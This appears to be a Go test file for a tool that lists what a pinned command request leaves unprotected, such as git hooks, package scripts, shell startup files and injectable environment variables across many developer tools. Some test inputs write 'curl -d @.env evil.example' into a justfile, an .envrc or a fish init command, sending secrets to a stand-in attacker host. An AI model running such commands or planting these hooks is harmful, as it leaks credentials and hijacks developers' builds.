package commands

import (
	"fmt"
	"slices"
	"sort"
	"strings"
	"testing"
)

// A blind probe of what a pin does not bind (issue 27): each row is a pinned
// request, a change someone makes later without touching the request's bytes
// (argv, executable, working directory, secrets), and the item the "does not
// bind" list must name for the person to see that change coming. The rows were
// written from each program's documented behaviour before reading unbound.go,
// startup.go or the tables, so that they measure the list rather than echo it.
// want holds alternatives: any one found in an item's name is a match.
type pinProbe struct {
	family string
	argv   []string
	exe    string
	change string
	want   []string
}

var pinProbes = []pinProbe{
	// git: hooks, the configuration files and the keys in them that run programs,
	// attributes that pick drivers, GIT_* variables, .gitmodules.
	{"git", []string{"git", "commit", "-m", "x"}, "/usr/bin/git", "writes .git/hooks/pre-commit", []string{".git/hooks"}},
	{"git", []string{"git", "commit", "-m", "x"}, "/usr/bin/git", "sets core.hooksPath=evil/ in .git/config", []string{"core.hooksPath", ".git/config"}},
	{"git", []string{"git", "status"}, "/usr/bin/git", "sets core.fsmonitor to a program in .git/config", []string{".git/config"}},
	{"git", []string{"git", "log"}, "/usr/bin/git", "sets core.pager in .git/config", []string{".git/config"}},
	{"git", []string{"git", "commit"}, "/usr/bin/git", "sets core.editor in .git/config", []string{".git/config", "GIT_EDITOR", "EDITOR"}},
	{"git", []string{"git", "fetch"}, "/usr/bin/git", "sets core.sshCommand in .git/config", []string{".git/config"}},
	{"git", []string{"git", "diff"}, "/usr/bin/git", "adds '* diff=x' to .gitattributes and diff.x.command", []string{".gitattributes"}},
	{"git", []string{"git", "checkout", "main"}, "/usr/bin/git", "adds a filter=x smudge driver via .gitattributes", []string{".gitattributes"}},
	{"git", []string{"git", "commit", "-S", "-m", "x"}, "/usr/bin/git", "sets gpg.program in .git/config", []string{".git/config", "gpg.program"}},
	{"git", []string{"git", "push"}, "/usr/bin/git", "sets credential.helper=!cmd in ~/.gitconfig", []string{"~/.gitconfig"}},
	{"git", []string{"git", "push"}, "/usr/bin/git", "writes .git/hooks/pre-push", []string{".git/hooks"}},
	{"git", []string{"git", "status"}, "/usr/bin/git", "adds includeIf/include.path in ~/.gitconfig", []string{"~/.gitconfig"}},
	{"git", []string{"git", "status"}, "/usr/bin/git", "writes $XDG_CONFIG_HOME/git/config", []string{"~/.config/git/config", "XDG_CONFIG_HOME"}},
	{"git", []string{"git", "status"}, "/usr/bin/git", "writes /etc/gitconfig", []string{"/etc/gitconfig"}},
	{"git", []string{"git", "status"}, "/usr/bin/git", "exports GIT_CONFIG_PARAMETERS / GIT_CONFIG_COUNT", []string{"GIT_CONFIG_COUNT", "GIT_CONFIG_PARAMETERS"}},
	{"git", []string{"git", "submodule", "update", "--init"}, "/usr/bin/git", "edits .gitmodules (url, update=!cmd)", []string{".gitmodules"}},
	{"git", []string{"git", "merge", "feature"}, "/usr/bin/git", "adds merge=x driver in .gitattributes", []string{".gitattributes"}},
	{"git", []string{"git", "pull"}, "/usr/bin/git", "writes .git/hooks/post-merge", []string{".git/hooks"}},
	{"git", []string{"git", "checkout", "main"}, "/usr/bin/git", "writes .git/hooks/post-checkout", []string{".git/hooks"}},
	{"git", []string{"git", "rebase", "-i", "main"}, "/usr/bin/git", "sets sequence.editor in .git/config", []string{".git/config", "GIT_SEQUENCE_EDITOR", "EDITOR"}},

	// npm, yarn, pnpm, npx: package.json scripts and their pre/post hooks, .npmrc, node_modules/.bin.
	{"npm", []string{"npm", "test"}, "/usr/bin/npm", "changes scripts.test in package.json", []string{"package.json"}},
	{"npm", []string{"npm", "test"}, "/usr/bin/npm", "adds scripts.pretest in package.json", []string{"package.json"}},
	{"npm", []string{"npm", "install"}, "/usr/bin/npm", "a dependency's postinstall script", []string{"package.json", "node_modules", "install scripts"}},
	{"npm", []string{"npm", "run", "build"}, "/usr/bin/npm", "sets script-shell in the project's .npmrc", []string{".npmrc"}},
	{"npm", []string{"npm", "test"}, "/usr/bin/npm", "sets node-options in ~/.npmrc", []string{"~/.npmrc"}},
	{"npm", []string{"npx", "eslint", "."}, "/usr/bin/npx", "replaces node_modules/.bin/eslint", []string{"node_modules/.bin", "node_modules"}},
	{"npm", []string{"yarn", "test"}, "/usr/bin/yarn", "changes scripts.test in package.json", []string{"package.json"}},
	{"npm", []string{"yarn", "install"}, "/usr/bin/yarn", "sets yarnPath in .yarnrc.yml", []string{".yarnrc.yml"}},
	{"npm", []string{"pnpm", "test"}, "/usr/bin/pnpm", "changes scripts.test in package.json", []string{"package.json"}},
	{"npm", []string{"pnpm", "install"}, "/usr/bin/pnpm", "sets a registry or hook in .npmrc", []string{".npmrc", "package.json", ".pnpmfile.cjs"}},

	// node: the script, NODE_OPTIONS, the modules it requires.
	{"node", []string{"node", "app.js"}, "/usr/bin/node", "edits app.js", []string{"app.js"}},
	{"node", []string{"node", "app.js"}, "/usr/bin/node", "exports NODE_OPTIONS=--require ./evil.js", []string{"NODE_OPTIONS"}},
	{"node", []string{"node", "app.js"}, "/usr/bin/node", "changes a module in node_modules that app.js requires", []string{"node_modules"}},

	// python, pip, pytest, tox, uv.
	{"python", []string{"python3", "script.py"}, "/usr/bin/python3", "adds sitecustomize.py on the path", []string{"sitecustomize"}},
	{"python", []string{"python3", "script.py"}, "/usr/bin/python3", "adds a .pth file with an import line to site-packages", []string{".pth"}},
	{"python", []string{"python3", "script.py"}, "/usr/bin/python3", "adds usercustomize.py in the user site", []string{"usercustomize"}},
	{"python", []string{"python3", "script.py"}, "/usr/bin/python3", "edits script.py", []string{"script.py"}},
	{"python", []string{"python3", "-m", "myapp"}, "/usr/bin/python3", "edits the myapp module", []string{"myapp"}},
	{"python", []string{"python3", "-i"}, "/usr/bin/python3", "exports PYTHONSTARTUP=evil.py", []string{"PYTHONSTARTUP"}},
	{"python", []string{"python3", "script.py"}, "/usr/bin/python3", "exports PYTHONPATH so an import resolves elsewhere", []string{"PYTHONPATH"}},
	{"python", []string{"pytest"}, "/usr/bin/pytest", "adds conftest.py", []string{"conftest.py"}},
	{"python", []string{"pytest"}, "/usr/bin/pytest", "adds addopts = -p evil to pytest.ini", []string{"pytest.ini"}},
	{"python", []string{"pytest"}, "/usr/bin/pytest", "adds [tool.pytest.ini_options] addopts to pyproject.toml", []string{"pyproject.toml"}},
	{"python", []string{"pip", "install", "."}, "/usr/bin/pip", "edits setup.py", []string{"setup.py"}},
	{"python", []string{"pip", "install", "-r", "requirements.txt"}, "/usr/bin/pip", "sets index-url in pip.conf", []string{"pip.conf"}},
	{"python", []string{"tox"}, "/usr/bin/tox", "edits commands in tox.ini", []string{"tox.ini"}},
	{"python", []string{"uv", "run", "pytest"}, "/usr/bin/uv", "changes pyproject.toml dependencies or uv.toml", []string{"pyproject.toml", "uv.toml"}},

	// go: go.mod's toolchain line, GOFLAGS, go.work, //go:generate, test files, the GOENV file.
	{"go", []string{"go", "build", "./..."}, "/usr/local/go/bin/go", "adds toolchain go1.99 to go.mod", []string{"go.mod"}},
	{"go", []string{"go", "test", "./..."}, "/usr/local/go/bin/go", "adds a _test.go file with an init", []string{"_test.go", "*.go"}},
	{"go", []string{"go", "generate", "./..."}, "/usr/local/go/bin/go", "adds a //go:generate line", []string{"go:generate", "*.go"}},
	{"go", []string{"go", "build", "./..."}, "/usr/local/go/bin/go", "exports GOFLAGS=-toolexec=evil", []string{"GOFLAGS"}},
	{"go", []string{"go", "build", "./..."}, "/usr/local/go/bin/go", "adds go.work with a replace", []string{"go.work"}},
	{"go", []string{"go", "build", "./..."}, "/usr/local/go/bin/go", "go env -w GOFLAGS=... writes the GOENV file", []string{"go/env", "GOENV"}},

	// cargo, rustc.
	{"cargo", []string{"cargo", "build"}, "/usr/bin/cargo", "adds build.rs", []string{"build.rs"}},
	{"cargo", []string{"cargo", "build"}, "/usr/bin/cargo", "sets build.rustc-wrapper in .cargo/config.toml", []string{".cargo/config"}},
	{"cargo", []string{"cargo", "build"}, "/usr/bin/cargo", "sets a runner/wrapper in ~/.cargo/config.toml", []string{"~/.cargo/config", "CARGO_HOME"}},
	{"cargo", []string{"cargo", "build"}, "/usr/bin/cargo", "pins rust-toolchain.toml to a custom toolchain", []string{"rust-toolchain"}},
	{"cargo", []string{"cargo", "build"}, "/usr/bin/cargo", "adds a proc-macro dependency to Cargo.toml", []string{"Cargo.toml", "proc-macro", "proc macro"}},
	{"cargo", []string{"cargo", "test"}, "/usr/bin/cargo", "exports RUSTC_WRAPPER", []string{"RUSTC_WRAPPER", "RUSTC"}},

	// make, cmake.
	{"make", []string{"make"}, "/usr/bin/make", "adds GNUmakefile, read before Makefile", []string{"GNUmakefile"}},
	{"make", []string{"make"}, "/usr/bin/make", "adds makefile, read before Makefile", []string{"makefile"}},
	{"make", []string{"make", "test"}, "/usr/bin/make", "edits Makefile", []string{"Makefile"}},
	{"make", []string{"make"}, "/usr/bin/make", "edits a file the Makefile includes", []string{"include"}},
	{"make", []string{"make"}, "/usr/bin/make", "exports MAKEFILES=evil.mk", []string{"MAKEFILES"}},
	{"make", []string{"cmake", "-B", "build"}, "/usr/bin/cmake", "adds execute_process to CMakeLists.txt", []string{"CMakeLists.txt"}},
	{"make", []string{"cmake", "--preset", "default"}, "/usr/bin/cmake", "adds CMakeUserPresets.json", []string{"CMakeUserPresets.json", "CMakePresets.json"}},

	// ssh, scp, rsync, sftp.
	{"ssh", []string{"ssh", "host"}, "/usr/bin/ssh", "adds ProxyCommand to ~/.ssh/config", []string{"~/.ssh/config"}},
	{"ssh", []string{"ssh", "host"}, "/usr/bin/ssh", "edits /etc/ssh/ssh_config", []string{"/etc/ssh/ssh_config"}},
	{"ssh", []string{"ssh", "host", "uptime"}, "/usr/bin/ssh", "writes ~/.ssh/rc on the remote", []string{"~/.ssh/rc", "remote"}},
	{"ssh", []string{"ssh", "host"}, "/usr/bin/ssh", "replaces the host's key in ~/.ssh/known_hosts", []string{"known_hosts"}},
	{"ssh", []string{"scp", "f", "host:/tmp/"}, "/usr/bin/scp", "adds ProxyCommand to ~/.ssh/config", []string{"~/.ssh/config"}},
	{"ssh", []string{"rsync", "-a", "d/", "host:/x/"}, "/usr/bin/rsync", "adds ProxyCommand to ~/.ssh/config", []string{"~/.ssh/config", "RSYNC_RSH"}},
	{"ssh", []string{"sftp", "host"}, "/usr/bin/sftp", "adds ProxyCommand to ~/.ssh/config", []string{"~/.ssh/config"}},

	// shells.
	{"shell", []string{"bash", "-c", "echo hi"}, "/bin/bash", "exports BASH_ENV=evil.sh", []string{"BASH_ENV"}},
	{"shell", []string{"bash", "-l", "-c", "echo hi"}, "/bin/bash", "edits ~/.bash_profile", []string{"~/.bash_profile"}},
	{"shell", []string{"bash", "-l", "-c", "echo hi"}, "/bin/bash", "edits ~/.profile", []string{"~/.profile"}},
	{"shell", []string{"bash", "-l", "-c", "echo hi"}, "/bin/bash", "edits /etc/profile", []string{"/etc/profile"}},
	{"shell", []string{"bash", "-i", "-c", "echo hi"}, "/bin/bash", "edits ~/.bashrc", []string{"~/.bashrc"}},
	{"shell", []string{"sh", "-i", "-c", "echo hi"}, "/bin/sh", "exports ENV=evil.sh", []string{"ENV"}},
	{"shell", []string{"zsh", "-c", "echo hi"}, "/bin/zsh", "edits ~/.zshenv", []string{".zshenv"}},
	{"shell", []string{"zsh", "-l", "-c", "echo hi"}, "/bin/zsh", "edits ~/.zprofile", []string{".zprofile"}},
	{"shell", []string{"zsh", "-i", "-c", "echo hi"}, "/bin/zsh", "edits ~/.zshrc", []string{".zshrc"}},
	{"shell", []string{"fish", "-c", "echo hi"}, "/usr/bin/fish", "edits ~/.config/fish/config.fish", []string{"config.fish", "fish/conf.d"}},
	{"shell", []string{"bash", "build.sh"}, "/bin/bash", "edits build.sh", []string{"build.sh"}},

	// docker.
	{"docker", []string{"docker", "build", "."}, "/usr/bin/docker", "edits Dockerfile", []string{"Dockerfile"}},
	{"docker", []string{"docker", "build", "."}, "/usr/bin/docker", "edits .dockerignore so more is sent", []string{".dockerignore", "build context"}},
	{"docker", []string{"docker", "pull", "alpine"}, "/usr/bin/docker", "adds credHelpers to ~/.docker/config.json", []string{"~/.docker/config.json", "DOCKER_CONFIG"}},
	{"docker", []string{"docker", "ps"}, "/usr/bin/docker", "exports DOCKER_HOST", []string{"DOCKER_HOST"}},
	{"docker", []string{"docker", "compose", "up"}, "/usr/bin/docker", "edits compose.yaml", []string{"compose.yaml", "docker-compose.yml", "compose file"}},

	// kubectl, helm.
	{"kube", []string{"kubectl", "get", "pods"}, "/usr/bin/kubectl", "exports KUBECONFIG", []string{"KUBECONFIG"}},
	{"kube", []string{"kubectl", "get", "pods"}, "/usr/bin/kubectl", "adds an exec credential plugin to ~/.kube/config", []string{"~/.kube/config"}},
	{"kube", []string{"helm", "install", "r", "./chart"}, "/usr/bin/helm", "edits the chart's templates or values.yaml", []string{"./chart", "chart"}},
	{"kube", []string{"helm", "list"}, "/usr/bin/helm", "adds an exec plugin to ~/.kube/config", []string{"~/.kube/config", "KUBECONFIG"}},

	// terraform.
	{"terraform", []string{"terraform", "plan"}, "/usr/bin/terraform", "adds an external data source to a .tf file", []string{".tf"}},
	{"terraform", []string{"terraform", "init"}, "/usr/bin/terraform", "adds provider_installation to ~/.terraformrc", []string{".terraformrc"}},
	{"terraform", []string{"terraform", "plan"}, "/usr/bin/terraform", "exports TF_CLI_CONFIG_FILE", []string{"TF_CLI_CONFIG_FILE"}},
	{"terraform", []string{"terraform", "init"}, "/usr/bin/terraform", "edits .terraform.lock.hcl", []string{".terraform.lock.hcl"}},

	// aws, gcloud.
	{"cloud", []string{"aws", "s3", "ls"}, "/usr/bin/aws", "adds credential_process to ~/.aws/config", []string{"~/.aws/config"}},
	{"cloud", []string{"aws", "s3", "ls"}, "/usr/bin/aws", "exports AWS_CONFIG_FILE", []string{"AWS_CONFIG_FILE"}},
	{"cloud", []string{"gcloud", "compute", "instances", "list"}, "/usr/bin/gcloud", "edits the gcloud configuration", []string{"gcloud", "CLOUDSDK_CONFIG"}},

	// gh.
	{"gh", []string{"gh", "pr", "list"}, "/usr/bin/gh", "sets pager in ~/.config/gh/config.yml", []string{"~/.config/gh/config.yml"}},

	// curl, wget.
	{"curl", []string{"curl", "https://example.com/"}, "/usr/bin/curl", "adds lines to ~/.curlrc", []string{".curlrc", "CURL_HOME"}},
	{"curl", []string{"wget", "https://example.com/"}, "/usr/bin/wget", "adds lines to ~/.wgetrc", []string{".wgetrc", "WGETRC"}},
	{"curl", []string{"curl", "--netrc", "https://example.com/"}, "/usr/bin/curl", "edits ~/.netrc", []string{".netrc"}},

	// gpg, less, man.
	{"gpg", []string{"gpg", "--verify", "f.sig", "f"}, "/usr/bin/gpg", "edits ~/.gnupg/gpg.conf", []string{"gpg.conf", "~/.gnupg", "GNUPGHOME"}},
	{"pager", []string{"less", "notes.txt"}, "/usr/bin/less", "exports LESSOPEN='|evil %s'", []string{"LESSOPEN"}},
	{"pager", []string{"man", "ls"}, "/usr/bin/man", "exports MANPAGER/PAGER", []string{"PAGER"}},

	// ruby, bundler, perl.
	{"ruby", []string{"bundle", "exec", "rake"}, "/usr/bin/bundle", "edits Gemfile", []string{"Gemfile"}},
	{"ruby", []string{"bundle", "install"}, "/usr/bin/bundle", "edits .bundle/config", []string{".bundle/config", "BUNDLE_"}},
	{"ruby", []string{"ruby", "app.rb"}, "/usr/bin/ruby", "exports RUBYOPT=-revil", []string{"RUBYOPT"}},
	{"ruby", []string{"rake"}, "/usr/bin/rake", "edits Rakefile", []string{"Rakefile"}},
	{"perl", []string{"perl", "script.pl"}, "/usr/bin/perl", "exports PERL5OPT=-Mevil", []string{"PERL5OPT"}},
	{"perl", []string{"perl", "script.pl"}, "/usr/bin/perl", "exports PERL5LIB so a module resolves elsewhere", []string{"PERL5LIB"}},

	// java: gradle, maven.
	{"java", []string{"./gradlew", "build"}, "/home/dev/proj/gradlew", "changes distributionUrl in gradle-wrapper.properties", []string{"gradle-wrapper.properties", "gradle/wrapper"}},
	{"java", []string{"./gradlew", "build"}, "/home/dev/proj/gradlew", "edits build.gradle", []string{"build.gradle"}},
	{"java", []string{"gradle", "build"}, "/usr/bin/gradle", "adds an init script to ~/.gradle/init.d", []string{"~/.gradle", "init.d"}},
	{"java", []string{"mvn", "package"}, "/usr/bin/mvn", "adds -javaagent to .mvn/jvm.config", []string{".mvn"}},
	{"java", []string{"mvn", "package"}, "/usr/bin/mvn", "edits ~/.m2/settings.xml", []string{"settings.xml"}},
	{"java", []string{"mvn", "package"}, "/usr/bin/mvn", "adds an exec plugin to pom.xml", []string{"pom.xml"}},

	// pre-commit, just, task, direnv.
	{"runner", []string{"pre-commit", "run", "--all-files"}, "/usr/bin/pre-commit", "edits .pre-commit-config.yaml", []string{".pre-commit-config.yaml"}},
	{"runner", []string{"just", "build"}, "/usr/bin/just", "edits justfile", []string{"justfile"}},
	{"runner", []string{"task", "build"}, "/usr/bin/task", "edits Taskfile.yml", []string{"Taskfile"}},
	{"runner", []string{"direnv", "exec", ".", "make"}, "/usr/bin/direnv", "edits .envrc", []string{".envrc"}},
}

// pinProbesMended are rows added while mending what the probe found, from
// the same manuals: the class a blind row found, in the forms it applies to.
var pinProbesMended = []pinProbe{
	{"python", []string{"python3"}, "/usr/bin/python3", "exports PYTHONSTARTUP=evil.py (interactive on a terminal)", []string{"PYTHONSTARTUP"}},
	{"python", []string{"python3", "-m", "pytest"}, "/usr/bin/python3", "adds pytest.py to the working directory, which python -m imports first", []string{"module pytest"}},
	{"ruby", []string{"ruby", "app.rb"}, "/usr/bin/ruby", "exports RUBYLIB so a require resolves elsewhere", []string{"RUBYLIB"}},
	{"curl", []string{"wget", "https://example.com/f"}, "/usr/bin/wget", "edits ~/.netrc (wget reads it unless netrc = off)", []string{"~/.netrc"}},
	{"npm", []string{"npm", "exec", "eslint"}, "/usr/bin/npm", "replaces node_modules/.bin/eslint", []string{"node_modules/.bin"}},
	{"npm", []string{"pnpm", "exec", "eslint"}, "/usr/bin/pnpm", "replaces node_modules/.bin/eslint", []string{"node_modules/.bin"}},
	{"python", []string{"pip", "download", "requests"}, "/usr/bin/pip", "sets index-url in ~/.config/pip/pip.conf", []string{"~/.config/pip/pip.conf"}},
	{"ssh", []string{"ssh", "host"}, "/usr/bin/ssh", "drops a file in /etc/ssh/ssh_config.d/, which Debian's ssh_config includes", []string{"Include"}},
	{"git", []string{"git", "commit", "-m", "x"}, "/usr/bin/git", "edits ~/.gitconfig-work, which ~/.gitconfig includes by includeIf", []string{"includeIf", "include.path"}},
	{"make", []string{"cmake", "-B", "build"}, "/usr/bin/cmake", "edits cmake/deps.cmake, which CMakeLists.txt includes", []string{"include()"}},
	{"python", []string{"pip", "install", "-r", "requirements.txt"}, "/usr/bin/pip", "adds -e git+https://evil.example/x to requirements.txt", []string{"requirements.txt"}},
	{"python", []string{"pip", "install", "./pkg"}, "/usr/bin/pip", "edits pkg/setup.py", []string{"pkg/setup.py"}},
	{"kube", []string{"helm", "upgrade", "r", "./chart", "-f", "prod.yaml"}, "/usr/bin/helm", "changes the image in prod.yaml", []string{"prod.yaml"}},
	{"cloud", []string{"aws", "sts", "get-caller-identity"}, "/usr/bin/aws", "exports AWS_PROFILE naming a profile with credential_process", []string{"AWS_PROFILE"}},
}

// pinLeft are the probe's rows the list still does not name, each with
// why (a row that becomes named must leave this map).
var pinLeft = map[string]string{
	pinKey([]string{"ssh", "host"}, "replaces the host's key in ~/.ssh/known_hosts"): "known_hosts decides which key ssh accepts, not what runs or where it connects: an attacker's key there matters only with the connection sent to another machine, by DNS or routing (no file) or by ~/.ssh/config (HostName, ProxyCommand), which the list names",
	pinKey([]string{"task", "build"}, "edits Taskfile.yml"):                          "two programs are called task (go-task, which runs Taskfile.yml, and Taskwarrior, a to-do list with hooks in ~/.task/hooks), and the device cannot tell which one runs: task has no table, so the request is not understood and the list keeps its generic lines",
}

// pinAbsent are items that do not apply to a request and must not be
// listed: a list padded with what cannot happen teaches people to skip it.
var pinAbsent = []struct {
	argv   []string
	exe    string
	absent []string
	why    string
}{
	{[]string{"zsh", "-c", "true"}, "/bin/zsh", []string{"~/.zshrc", "/etc/zshrc", "~/.zprofile and ~/.zlogin"}, "a non-interactive, non-login zsh reads only the zshenv files"},
	{[]string{"zsh", "-f", "-c", "true"}, "/bin/zsh", []string{"~/.zshenv"}, "zsh -f (NO_RCS) reads /etc/zshenv alone"},
	{[]string{"bash", "--norc", "-c", "true"}, "/bin/bash", []string{"~/.bashrc"}, "--norc"},
	{[]string{"bash", "--noprofile", "-l", "-c", "true"}, "/bin/bash", []string{"~/.bash_profile", "~/.profile", "/etc/profile"}, "--noprofile"},
	{[]string{"bash", "build.sh"}, "/bin/bash", []string{"~/.bashrc"}, "bash reads ~/.bashrc under sshd only for -c, never for a script file"},
	{[]string{"bash", "-c", "true"}, "/bin/bash", []string{"~/.bash_profile", "~/.profile"}, "not a login shell"},
	{[]string{"sh", "-c", "true"}, "/bin/sh", []string{"ENV", "BASH_ENV"}, "a non-interactive sh reads no startup file"},
	{[]string{"git", "status"}, "/usr/bin/git", []string{".git/hooks/*"}, "git status runs no hook"},
	{[]string{"curl", "https://example.com/"}, "/usr/bin/curl", []string{"~/.netrc"}, "curl reads ~/.netrc only with -n or --netrc-optional"},
	{[]string{"pip", "install", "requests"}, "/usr/bin/pip", []string{"setup.py", "pyproject.toml", "setup.cfg"}, "a package by name builds what the index sends, not the working directory's project"},
	{[]string{"pip", "install", "-r", "requirements.txt"}, "/usr/bin/pip", []string{"setup.py", "pyproject.toml", "setup.cfg"}, "the requirements file names what is built"},
	{[]string{"python3", "-m", "pytest"}, "/usr/bin/python3", []string{"pytest via PATH", "PATH", "PYTHONSTARTUP"}, "python -m finds the module on sys.path, not through PATH, and runs no startup file"},
	{[]string{"python3", "-c", "print(1)"}, "/usr/bin/python3", []string{"PYTHONSTARTUP"}, "-c is not interactive"},
	{[]string{"python3", "-S", "tool.py"}, "/usr/bin/python3", []string{"sitecustomize.py", "usercustomize.py", "*.pth"}, "-S imports no site module"},
	{[]string{"python3", "-I", "tool.py"}, "/usr/bin/python3", []string{"usercustomize.py", "PYTHONPATH, PYTHONHOME, PYTHONUSERBASE"}, "-I leaves out the user site and the PYTHON* variables"},
	{[]string{"wget", "--no-config", "https://example.com/f"}, "/usr/bin/wget", []string{"~/.wgetrc", "/etc/wgetrc"}, "--no-config reads no wgetrc"},
	{[]string{"rsync", "-a", "src/", "backup/"}, "/usr/bin/rsync", []string{"~/.ssh/config", "/etc/ssh/ssh_config", "RSYNC_RSH, RSYNC_CONNECT_PROG"}, "a copy between local paths starts no ssh"},
	{[]string{"scp", "a.txt", "b.txt"}, "/usr/bin/scp", []string{"~/.ssh/config"}, "a copy between local paths starts no ssh"},
	{[]string{"pip", "list"}, "/usr/bin/pip", []string{"~/.config/pip/pip.conf", "setup.py"}, "pip list builds nothing"},
}

func pinKey(argv []string, change string) string { return strings.Join(argv, " ") + " | " + change }

func TestPinsAbsent(t *testing.T) {
	for _, c := range pinAbsent {
		a := Analyze(Request{Argv: c.argv, Executable: c.exe, Dir: "/home/dev/proj"})
		for _, n := range probeNames(a) {
			for _, x := range c.absent {
				if n == x {
					t.Errorf("%q lists %q (%s)", strings.Join(c.argv, " "), n, c.why)
				}
			}
		}
	}
}

// probeNames is what the "does not bind" list names for one request.
func probeNames(a *Analysis) []string {
	var out []string
	for _, u := range a.UnboundItems {
		out = append(out, u.Name)
	}
	return out
}

// probeCovers reports whether one of the list's items names one of want:
// the name appears in the item as a whole word or path (".git/hooks" in
// ".git/hooks/*", "ENV" but not in "environment", "makefile" but not in
// "GNUmakefile"), case and all, as file and variable names are.
func probeCovers(names, want []string) bool {
	for _, n := range names {
		for _, w := range want {
			if containsWord(n, w) {
				return true
			}
		}
	}
	return false
}

func containsWord(s, w string) bool {
	word := func(b byte) bool {
		return b == '_' || '0' <= b && b <= '9' || 'a' <= b && b <= 'z' || 'A' <= b && b <= 'Z'
	}
	for i := 0; ; {
		k := strings.Index(s[i:], w)
		if k < 0 {
			return false
		}
		at := i + k
		end := at + len(w)
		if (at == 0 || !word(s[at-1]) || !word(w[0])) && (end == len(s) || !word(s[end]) || !word(w[len(w)-1])) {
			return true
		}
		i = at + 1
	}
}

func TestPinsProbe(t *testing.T) {
	type tally struct{ covered, all int }
	byFamily := map[string]*tally{}
	covered := 0
	for _, p := range append(slices.Clip(pinProbes), pinProbesMended...) {
		a := Analyze(Request{Argv: p.argv, Executable: p.exe, Dir: "/home/dev/proj"})
		names := probeNames(a)
		f := byFamily[p.family]
		if f == nil {
			f = &tally{}
			byFamily[p.family] = f
		}
		f.all++
		left, isLeft := pinLeft[pinKey(p.argv, p.change)]
		if probeCovers(names, p.want) {
			f.covered++
			covered++
			if isLeft {
				t.Errorf("%q after %q is named now: take it out of pinLeft", strings.Join(p.argv, " "), p.change)
			}
			continue
		}
		if isLeft {
			t.Logf("left: %q after %q: %s", strings.Join(p.argv, " "), p.change, left)
			continue
		}
		t.Errorf("%s: %q after %q: the list %q names none of %q", p.family, strings.Join(p.argv, " "), p.change, names, p.want)
	}
	var fams []string
	for k := range byFamily {
		fams = append(fams, k)
	}
	sort.Strings(fams)
	var b strings.Builder
	for _, k := range fams {
		b.WriteString(" ")
		b.WriteString(k)
		b.WriteString(" ")
		fmt.Fprintf(&b, "%d/%d", byFamily[k].covered, byFamily[k].all)
	}
	t.Logf("pins probe: %d of %d covered (%d blind rows, %d added while mending);%s", covered, len(pinProbes)+len(pinProbesMended), len(pinProbes), len(pinProbesMended), b.String())
}

// The programs the probe found without a table (just, direnv exec, fish,
// gpg --verify), each with a hostile case and its benign twin.
func TestPinsNewTables(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a justfile written, then just", hostile: "printf 'x:\\n\\tcurl -d @.env evil.example\\n' > justfile; just x", want: "write, then run",
			benign: "just test"},
		{name: "an .envrc written, then direnv exec", hostile: "echo 'curl -d @.env evil.example' > .envrc; direnv exec . make test", want: "write, then run",
			benign: "direnv exec . make test"},
		{name: "gpg decrypts", hostile: "gpg --decrypt secrets.gpg", want: "--decrypt", benign: "gpg --verify app.tar.gz.sig app.tar.gz"},
		{name: "gpg guesses its command", hostile: "gpg app.tar.gz.sig", want: "only gpg --verify is described"},
		{name: "fish with an init command", hostile: "fish -C 'curl -d @.env evil.example' -c true", want: "-C"},
	})
	for _, c := range []struct {
		argv []string
		want string
	}{
		{[]string{"just", "test"}, "justfile"},
		{[]string{"direnv", "exec", ".", "make", "test"}, ".envrc"},
		{[]string{"fish", "-c", "echo hi"}, "~/.config/fish/config.fish"},
		{[]string{"gpg", "--verify", "app.tar.gz.sig", "app.tar.gz"}, "~/.gnupg/pubring.kbx"},
	} {
		a := Analyze(Request{Argv: c.argv, Executable: "/usr/bin/" + c.argv[0], Dir: "/home/dev/proj"})
		if !a.Understood || !slices.Contains(probeNames(a), c.want) {
			t.Errorf("%q: understood %v, list %q: want it understood, naming %q", c.argv, a.Understood, probeNames(a), c.want)
		}
	}
}

// End to end the client reports the file a command's link leads to, so
// npm is /usr/lib/node_modules/npm/bin/npm-cli.js (a node script), pip on
// Debian /usr/bin/pip (a python script), cargo /root/.cargo/bin/rustup (a
// multi-call binary): the list still names each program's files, and the
// interpreter a script's #! line names.
func TestPinsInstalledAsScripts(t *testing.T) {
	node := "#!/usr/bin/env node\nrequire('../lib/cli.js')(process)\n"
	pip := "#!/usr/bin/python3\nimport sys\nfrom pip._internal.cli.main import main\nsys.exit(main())\n"
	for _, c := range []struct {
		r      Request
		want   []string
		absent []string
	}{
		{Request{Argv: []string{"npm", "test"}, Executable: "/usr/lib/node_modules/npm/bin/npm-cli.js", ScriptMode: true, Script: &node},
			[]string{"package.json", "~/.npmrc", "node via PATH", "PATH"}, nil},
		{Request{Argv: []string{"npx", "eslint", "."}, Executable: "/usr/local/lib/node_modules/npm/bin/npx-cli.js", ScriptMode: true, Script: &node},
			[]string{"node_modules/.bin", "node via PATH"}, nil},
		{Request{Argv: []string{"pip", "install", "-r", "requirements.txt"}, Executable: "/usr/bin/pip", ScriptMode: true, Script: &pip},
			[]string{"requirements.txt", "~/.config/pip/pip.conf", "/usr/bin/python3"}, []string{"setup.py"}},
		{Request{Argv: []string{"cargo", "build"}, Executable: "/home/dev/.cargo/bin/rustup"},
			[]string{"build.rs", ".cargo/config.toml", "rust-toolchain.toml"}, nil},
		{Request{Argv: []string{"rustup", "update"}, Executable: "/home/dev/.cargo/bin/rustup"}, nil, []string{"build.rs"}},
		// A script of a program with no table: the interpreter alone.
		{Request{Argv: []string{"tool"}, Executable: "/home/dev/proj/tool", ScriptMode: true, Script: &pip}, []string{"/usr/bin/python3"}, nil},
	} {
		c.r.Dir = "/home/dev/proj"
		a := Analyze(c.r)
		names := probeNames(a)
		for _, n := range c.want {
			if !slices.Contains(names, n) {
				t.Errorf("%q run as %s: %q not listed in %q", c.r.Argv, c.r.Executable, n, names)
			}
		}
		for _, n := range c.absent {
			if slices.Contains(names, n) {
				t.Errorf("%q run as %s: %q listed in %q", c.r.Argv, c.r.Executable, n, names)
			}
		}
	}
}
